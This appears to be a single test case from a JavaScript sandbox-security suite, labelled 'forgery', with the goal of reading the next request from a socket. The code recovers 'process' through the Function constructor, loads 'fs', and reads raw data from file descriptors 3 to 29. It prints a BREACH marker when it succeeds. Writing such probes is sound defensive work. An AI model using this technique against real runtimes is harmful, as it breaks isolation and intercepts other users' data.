// id: js-n-105 | family: forgery | goal: read the next request from the socket
// timeout: 2
const P = globalThis.process || (() => { try { return (() => {}).constructor('return process')(); } catch { return undefined; } })();
const fs = (() => { try { return require('fs'); } catch { } try { return P.getBuiltinModule('fs'); } catch { } })();
const b = Buffer.alloc(65536);
for (let fd = 3; fd < 30; fd++) try { const n = fs.readSync(fd, b, 0, b.length, null); if (n > 0) console.log('BREACH' + '_@@NONCE@@', fd, b.toString('latin1', 0, n)); } catch (e) { console.log(fd, e.code); }
